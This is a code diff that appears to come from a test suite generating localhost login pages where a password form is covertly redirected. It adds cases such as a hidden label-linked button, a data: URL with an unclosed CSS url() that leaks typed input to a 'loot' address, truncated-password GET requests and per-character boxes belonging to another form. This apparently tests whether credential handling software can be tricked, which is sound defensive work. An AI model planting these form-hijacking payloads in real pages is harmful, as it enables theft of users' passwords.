@@ -60,6 +60,9 @@ SHAPES = {
     "taken-label": ("login", "the button is in a label of another one, which is not seen"),
     "taken-inner": ("login", "a label of the button is over it, and has another one inside"),
     "taken-active": ("login", "something comes under the mouse between its press and its release, so that the label is clicked"),
+    "taken-referer": ("login", "the same label, and the other button sends by GET to the own server, where the limit of a field has cut the password"),
+    "taken-data": ("login", "the same label, and the other button puts what was typed into a document of its own"),
+    "taken-boxes": ("login", "boxes for one sign each: the first stands alone, the others belong to a form of another server"),
     "taken-hover": ("login", "the mouse brings another button over the one that it was moved to"),
     "taken-focus": ("login", "a frame of another site takes the focus all the time, and sends on what is typed there"),
     "void": ("login", "the same, and the action of the form is 'javascript:void(0)'"),
@@ -71,8 +74,14 @@ UNSEEN = {
         "taken-unseen-frame": 'formtarget="inner"', "taken-unseen-owner": 'form="owner"'}.items()}
 HOVER = ('<style>#over { display: none } form:hover #over { display: block; position: fixed; inset: 0; z-index: 9 }</style>'
          '<button id="over" formaction="{loot}" formtarget="_blank"></button>')
+# The end of the document closes the style by itself, so that the address of its picture has the whole query.
+DATA = "data:text/html,<body>x<style>body{background:url({loot}"
 # What is around the button that is seen: a click on a label presses another one.
 LABELS = {
+    "taken-data": '<label for="other">%s</label><button id="other" style="display: none" formaction="' + DATA
+                  + '" formmethod="get" formtarget="inner"></button>',
+    "taken-boxes": '<label for="other">%s</label>',
+    "taken-referer": '<label for="other">%s</label><button id="other" style="display: none" formmethod="get"></button>',
     "taken-label": '<label for="other">%s</label><button id="other" style="display: none" {to}></button>',
     "taken-inner": '<style>div { position: relative } label.over { position: absolute; inset: 0 } .over button '
                    '{ width: 100%%; height: 100%%; opacity: 0 }</style>'
@@ -188,19 +197,25 @@ def taken(visit, shape):
     thief = visit.own.replace("good.localhost", "localhost") + "/scripted/thief"
     by_redirect = TAKEN_BY_REDIRECT.get(shape, ("", {}))[1]
     return {
-        "form": by_redirect.get("form", ""), "field": 'form="owner"' if shape == "taken-unseen-owner" else by_redirect.get("field", ""), "start": by_redirect.get("start", ""),
+        "form": by_redirect.get("form", ""),
+        "field": {"taken-unseen-owner": 'form="owner"', "taken-boxes": 'form="none" maxlength="1"',
+                  "taken-referer": 'maxlength="4"'}.get(
+            shape, by_redirect.get("field", "")), "start": by_redirect.get("start", ""),
         "base": f'<base href="{visit.context.urls["other"]}/">' if shape == "taken-base" else "",
         "target": by_redirect.get("target", "/scripted/passed") if shape in TAKEN_BY_REDIRECT
         else {"taken-base": "scripted/loot", "taken-hover": "/scripted/honest?hover"}.get(shape, "/scripted/honest"),
-        "send": "" if shape in UNSEEN else LABELS.get(shape, "%s").replace("{to}", f'formaction="{loot}" formtarget="_blank"')
+        "send": "" if shape in UNSEEN else LABELS.get(shape, "%s").replace("{to}", f'formaction="{loot}" formtarget="_blank"').replace("{loot}", loot)
         % ('<button type="submit" id="shown" %s>Sign in</button>' % {
             "taken-button": f'formaction="{loot}"', "taken-get": 'formmethod="get"',
-            "taken-label": 'style="pointer-events: none"'}.get(shape, "")),
+            **dict.fromkeys(["taken-label", "taken-data", "taken-boxes", "taken-referer"], 'style="pointer-events: none"')}.get(shape, "")),
         "unseen": (HOVER if shape == "taken-hover" else UNSEEN.get(shape, "")).replace("{loot}", loot),
         "change": f'form.action = "{loot}";' if shape == "taken-script" else by_redirect.get("change", "").replace("{loot}", loot),
         "frame": f'<iframe src="{thief}" width="300" height="60"></iframe>' if shape == "taken-focus"
         else f'<iframe name="inner" src="{loot}"></iframe>' if shape == "taken-unseen-frame"
         else f'<form id="owner" method="post" action="{loot}"></form>' if shape == "taken-unseen-owner"
+        else '<iframe name="inner"></iframe>' if shape == "taken-data"
+        else f'<form action="{loot}">' + "".join(f'<input type="password" maxlength="1" name="{name}">' for name in "abcde")
+        + '<button id="other"></button></form>' if shape == "taken-boxes"
         else by_redirect.get("frame", ""),
     }
 
